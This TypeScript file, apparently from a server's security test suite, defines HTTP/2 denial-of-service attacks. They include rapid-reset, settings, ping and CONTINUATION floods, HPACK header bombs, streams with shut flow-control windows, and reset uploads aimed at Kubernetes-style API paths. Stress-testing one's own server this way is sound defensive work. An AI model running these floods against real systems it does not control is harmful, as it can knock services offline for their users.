// Attacks on HTTP/2: frames by hand that no client library would send, streams that never end.
import { constants } from 'node:http2';
import { frameFlag, frameType } from '../../lib/http2/frames.ts';
import { frame, getHeaders, preface } from '../../lib/server/testing/http2-frames.ts';
import { closed, pause, repeat, textOf } from './attacker.ts';
import type { Attack, Attacker } from './attacker.ts';

const { endHeaders, endStream } = frameFlag;

const { headers } = frameType;
const endOfHeadersAndStream = endHeaders | endStream;
/** POST https://a/ by HPACK's static table. */
const postHeaders = Buffer.from([0x83, ...getHeaders.subarray(1)]);
const idOf = (number: number): number => number * 2 + 1;

/** A literal header with indexing: 4,000 bytes of the dynamic table, then used again and again. */
const bombHeaders = Buffer.concat([
  getHeaders,
  Buffer.from([0x40, 0x01, 0x78, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4_000, 0x79),
  Buffer.alloc(4_000, 0xbe),
]);

const floods: readonly (readonly [string, (number: number) => Buffer])[] = [
  [
    'resets',
    (number) =>
      Buffer.concat([
        frame(headers, endOfHeadersAndStream, idOf(number), getHeaders),
        frame(frameType.resetStream, 0, idOf(number), Buffer.from([0, 0, 0, 8])),
      ]),
  ],
  ['settings', () => frame(frameType.settings, 0, 0, Buffer.alloc(600))],
  ['empty settings', () => frame(frameType.settings, 0, 0)],
  ['pings', () => frame(frameType.ping, 0, 0, Buffer.alloc(8))],
  [
    'continuations',
    (number) =>
      number === 0
        ? frame(headers, endStream, 1, getHeaders)
        : frame(frameType.continuation, 0, 1, Buffer.alloc(1_000, 0x82)),
  ],
  ['empty data', () => frame(frameType.data, 0, 1)],
  ['window updates', () => frame(frameType.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))],
  [
    'priorities',
    (number) => frame(frameType.priority, 0, idOf(number), Buffer.from([0, 0, 0, 0, 16])),
  ],
  [
    'unfinished bodies',
    (number) =>
      Buffer.concat([
        frame(headers, endHeaders, idOf(number), postHeaders),
        frame(frameType.data, 0, idOf(number), Buffer.alloc(4_000)),
      ]),
  ],
  ['header bombs', (number) => frame(headers, endOfHeadersAndStream, idOf(number), bombHeaders)],
];

/** Frames in turns of fifty, until the server has had enough. */
async function flood(
  attacker: Attacker,
  make: (number: number) => Buffer,
  count: number,
): Promise<void> {
  const socket = await attacker.tls('h2');
  socket?.resume().write(preface);
  for (let number = 0; number < count && socket?.destroyed === false;) {
    const batch = Array.from({ length: 50 }, () => make(number++));
    socket.write(Buffer.concat(batch));
    await pause(1);
  }
  await closed(socket, 100);
  socket?.destroy();
}

const frames = floods.map(([name, make]): Attack => ({
  name: `HTTP/2 ${name}`,
  run: (attacker) => repeat(8, () => flood(attacker, make, 2_000), 4),
}));

/** Answers that nobody takes: the window of the streams is shut. */
const shutWindows: Attack = {
  name: 'HTTP/2 shut windows',
  run: (attacker) =>
    repeat(
      6,
      async (index) => {
        const session = await attacker.http2({ settings: { initialWindowSize: index % 2 } });
        for (let number = 0; number < 60; number++) {
          const stream = session?.request({
            ':path': number % 2 === 0 ? '/api/v1/pods' : '/api/v1/pods?watch=1',
            authorization: `Bearer ${attacker.victim.token}`,
          });
          stream?.on('error', () => undefined);
        }
        await pause(1_500);
        session?.destroy();
      },
      3,
    ),
};

const resetUploads: Attack = {
  name: 'HTTP/2 uploads reset',
  run: (attacker, round) =>
    repeat(10, async (index) => {
      const session = await attacker.http2();
      await repeat(
        30,
        async (number) => {
          const stream = session?.request({
            ':path': '/api/v1/namespaces/default/configmaps',
            ':method': 'POST',
            'content-type': 'application/json',
            'x-mark': textOf(500, round, index, number),
            authorization: `Bearer ${attacker.victim.token}`,
          });
          stream?.on('error', () => undefined).resume();
          stream?.write(Buffer.alloc(100_000, 0x20));
          await pause(5);
          stream?.close(constants.NGHTTP2_CANCEL);
        },
        10,
      );
      session?.destroy();
    }),
};

export const http2Floods: readonly Attack[] = [...frames, shutWindows, resetUploads];
